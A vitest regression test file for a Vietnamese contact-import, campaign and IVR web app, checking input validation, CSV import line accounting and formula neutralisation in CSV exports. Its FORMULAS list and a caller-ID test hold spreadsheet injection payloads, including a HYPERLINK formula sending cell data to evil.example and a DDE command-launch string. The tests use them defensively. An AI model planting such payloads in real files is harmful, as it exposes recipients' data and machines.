// Regression tests of issue 8's input findings, through the real app: text PostgreSQL cannot store and
// out-of-range numbers get a 400 naming the field (finding 2), every CSV the server writes neutralises
// formulas and caller IDs are stored only as numbers or the withheld marker (finding 8), and a CSV
// upload accounts for every line (finding 12).
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { RETENTION_DEFAULTS } from "../../../server/contract/privacy/retention.js";
import { WITHHELD_CALLER } from "../../../server/phone/caller-id.js";
import { listUrl, login, seedSmallProvince, startTestApp, type TestApp } from "../../helpers/app.js";
import { createSender } from "../../helpers/campaigns.js";
import { multipart } from "../../helpers/multipart.js";
import { signedPost } from "../../helpers/twilio.js";

let t: TestApp;
let admin: string;
let adminId: number;
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

beforeAll(async () => {
  t = await startTestApp();
  const { users } = await seedSmallProvince(t.db);
  adminId = users.admin.id;
  admin = await login(t.app, "admin");
  // The shipped IVR flow, so incoming calls are recorded.
  expect((await json("POST", "/api/ivr-flow-versions", {}, admin)).statusCode).toBe(200);
});
afterAll(async () => {
  await t?.close();
});

const json = (method: "POST" | "PUT", url: string, payload: unknown, cookie?: string) =>
  t.app.inject({ method, url, payload: payload as object, headers: cookie ? { cookie } : {} });

async function importCsv(csv: string | Buffer, mapping: object = { phone: "SĐT", name: "Họ tên" }) {
  const { payload, headers } = multipart({ mapping: JSON.stringify(mapping) }, csv);
  return t.app.inject({ method: "POST", url: "/api/contact-imports", headers: { ...headers, cookie: admin }, payload });
}

async function errorReport(importId: number): Promise<string[][]> {
  const report = await t.app.inject({ method: "GET", url: `/api/contact-imports/${importId}/errors.csv`, headers: { cookie: admin } });
  expect(report.statusCode).toBe(200);
  return parse(report.body, { bom: true, relax_column_count: true });
}

describe("text the database cannot store, and numbers out of range (finding 2)", () => {
  it("refuses a NUL in the anonymous login with a 400 naming the field", async () => {
    const response = await json("POST", "/api/auth/login", { username: "admin\u0000", password: "x" });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      code: "invalid_characters",
      errors: { username: "tthc.validation.invalid_characters" },
    });
  });

  it("refuses lone surrogates in list names, tags and SMS policy texts, naming the field", async () => {
    const list = await json("POST", "/api/contact-lists", { name: "Danh sách \ud800" }, admin);
    expect(list.statusCode).toBe(400);
    expect(list.json().errors).toEqual({ name: "tthc.validation.invalid_characters" });

    const contact = await json("POST", "/api/contacts", { phone: "0912345678", tags: ["ok", "x\udc00"] }, admin);
    expect(contact.statusCode).toBe(400);
    expect(contact.json().errors).toEqual({ "tags.1": "tthc.validation.invalid_characters" });

    const policy = (await t.app.inject({ method: "GET", url: "/api/settings/sms-policy", headers: { cookie: admin } })).json();
    const [field] = Object.entries(policy).find(([, value]) => typeof value === "string") ?? [];
    expect(field).toBeDefined();
    const changed = await json("PUT", "/api/settings/sms-policy", { ...policy, [field as string]: "\ud83d" }, admin);
    expect(changed.statusCode).toBe(400);
    expect(changed.json().errors).toEqual({ [field as string]: "tthc.validation.invalid_characters" });
    // Emoji are valid text: a pair of surrogates is not refused.
    expect((await json("POST", "/api/contact-lists", { name: "Danh sách 😀" }, admin)).statusCode).toBe(200);
  });

  it("refuses NUL in a list filter, where JSON escapes become text only once parsed", async () => {
    const response = await t.app.inject({
      method: "GET",
      url: listUrl("contacts", { filter: { q: "\u0000" } }),
      headers: { cookie: admin },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual({ "filter.q": "tthc.validation.invalid_characters" });
  });

  it("refuses numbers past int4 and '1e400' before they reach the database", async () => {
    const big = await json("POST", "/api/contact-lists/1/members", { contactIds: [99999999999] }, admin);
    expect(big.statusCode).toBe(400);
    const infinite = await json("PUT", "/api/settings/retention", { ...RETENTION_DEFAULTS, recordingDays: 7, callDays: "1e400" }, admin);
    expect(infinite.statusCode).toBe(400);
    expect(infinite.json().errors).toEqual({ callDays: "tthc.validation.out_of_range" });
  });

  it("answers a signed webhook whose RecordingDuration overflows with a 400, not a 500", async () => {
    const CallSid = "CA00000000000000000000000000000001";
    await signedPost(t.app, t.config, t.db, "/twilio/voice/incoming", { CallSid, From: "+84912345678", To: "+842563822478" });
    const response = await signedPost(t.app, t.config, t.db, "/twilio/voice/recording-status", {
      CallSid,
      RecordingSid: "RE00000000000000000000000000000001",
      RecordingStatus: "completed",
      RecordingDuration: "99999999999",
    });
    expect(response.status).toBe(400);
    expect(JSON.parse(response.body).errors).toEqual({ RecordingDuration: "tthc.validation.format" });
  });

  it("refuses NUL in an upload's mapping and file name, and reports a NUL line as a row error", async () => {
    const { payload, headers } = multipart({ mapping: JSON.stringify({ phone: "SĐT\u0000" }) }, "SĐT\n0912345678\n");
    const mapping = await t.app.inject({ method: "POST", url: "/api/contact-imports", headers: { ...headers, cookie: admin }, payload });
    expect(mapping.statusCode).toBe(400);
    expect(mapping.json().errors).toEqual({ "mapping.phone": "tthc.validation.invalid_characters" });

    const response = await importCsv(Buffer.from("SĐT;Họ tên\n0912000101;A\n0912000102;B\u0000C\n0912000103;D\n"));
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json()).toMatchObject({ totalRows: 3, importedRows: 2, errorRows: 1 });
    const [, ...rows] = await errorReport(response.json().id);
    expect(rows).toEqual([["3", "", "0912000102;B\ufffdC", "Có ký tự không hợp lệ"]]);
  });
});

describe("CSV formulas and caller IDs (finding 8)", () => {
  it("neutralises formulas in the import error report", async () => {
    const csv = ["SĐT;Họ tên", ...FORMULAS.map((f) => `"${f.replace(/"/g, '""')}";x`)].join("\n");
    const response = await importCsv(csv);
    expect(response.json()).toMatchObject({ totalRows: 6, errorRows: 6 });
    const [, ...rows] = await errorReport(response.json().id);
    expect(rows.map(([, , value]) => value)).toEqual(FORMULAS.map((f) => `'${f}`));
  });

  it("neutralises formulas in a campaign's results", async () => {
    const sender = await createSender(t.db);
    const campaign = await t.db.campaign.create({
      data: { name: "formulas", body: "[QC] x", senderId: sender.id, audience: {}, createdById: adminId, status: "completed" },
    });
    await t.db.campaignRecipient.createMany({
      data: FORMULAS.map((lastError, i) => ({ campaignId: campaign.id, phone: `+8491200020${i}`, status: "failed", lastError })),
    });
    const response = await t.app.inject({ method: "GET", url: `/api/campaigns/${campaign.id}/results.csv`, headers: { cookie: admin } });
    expect(response.statusCode).toBe(200);
    const [, ...rows] = parse(response.body, { bom: true }) as string[][];
    expect(rows.map((row) => row[4])).toEqual(FORMULAS.map((f) => `'${f}`));
    // Cells that start with "+" are neutralised too: the number is still readable.
    expect(rows[0]?.[0]).toBe("'+84912000200");
  });

  it("stores a caller ID only as a valid number or the withheld marker", async () => {
    const froms = ['=HYPERLINK("http://evil.example","x")', "anonymous", "Restricted", "+266696687", "", "+14155550123", "0912 345 678"];
    const stored: string[] = [];
    for (const [i, From] of froms.entries()) {
      const CallSid = `CA1000000000000000000000000000000${i}`;
      const response = await signedPost(t.app, t.config, t.db, "/twilio/voice/incoming", { CallSid, From, To: "+842563822478" });
      expect(response.status).toBe(200);
      stored.push((await t.db.call.findUniqueOrThrow({ where: { callSid: CallSid } })).caller ?? "");
    }
    const W = WITHHELD_CALLER;
    expect(stored).toEqual([W, W, W, W, W, "+14155550123", "+84912345678"]);
  });
});

describe("every line of an upload is accounted for (finding 12)", () => {
  it("imports both rows when a \\r\\n line is followed by a \\n line", async () => {
    const response = await importCsv("SĐT;Họ tên\r\n0912000301;A\r\n0912000302;B\n0912000303;C\r0912000304;D");
    expect(response.json()).toMatchObject({ totalRows: 4, importedRows: 4, errorRows: 0 });
  });

  it("reports an unclosed quote on its own line and still imports the valid rows after it", async () => {
    const csv = ["SĐT;Họ tên", '0912000401;"Mở ngoặc', "0912000402;B", "0912000403;C", '0912000404;"Hai\ndòng"'].join("\n");
    const response = await importCsv(csv);
    expect(response.json()).toMatchObject({ totalRows: 4, importedRows: 3, errorRows: 1 });
    const [, ...rows] = await errorReport(response.json().id);
    expect(rows).toEqual([["2", "", '0912000401;"Mở ngoặc', "Dòng sai định dạng (số cột hoặc dấu ngoặc kép)"]]);
    const names = await t.db.contact.findMany({ where: { phone: { in: ["+84912000402", "+84912000404"] } }, orderBy: { phone: "asc" } });
    expect(names.map((c) => c.name)).toEqual(["B", "Hai\ndòng"]);
  });

  it("reads a BOM, skips blank lines, reports a huge line, and the counts add up to the data lines", async () => {
    const huge = `0912000505;${"x".repeat(200_000)}`;
    const lines = ["\ufeffSĐT;Họ tên", "0912000501;A", "", "0912000502;B", "   ", huge, "0912000503;C", "0912000501;A again", "abc;D"];
    const response = await importCsv(lines.join("\r\n"));
    const result = response.json();
    const dataLines = lines.slice(1).filter((line) => line.trim() !== "").length;
    expect(result).toMatchObject({ totalRows: dataLines, importedRows: 3, duplicateRows: 1, errorRows: 2 });
    expect(result.importedRows + result.duplicateRows + result.errorRows).toBe(result.totalRows);
    const [, ...rows] = await errorReport(result.id);
    expect(rows.map(([row, , , reason]) => [Number(row), reason])).toEqual([
      [6, "Dòng sai định dạng (số cột hoặc dấu ngoặc kép)"],
      [8, "Số trùng với một dòng trước trong tệp (đã gộp)"],
      [9, "Số điện thoại không hợp lệ"],
    ]);
  });
});
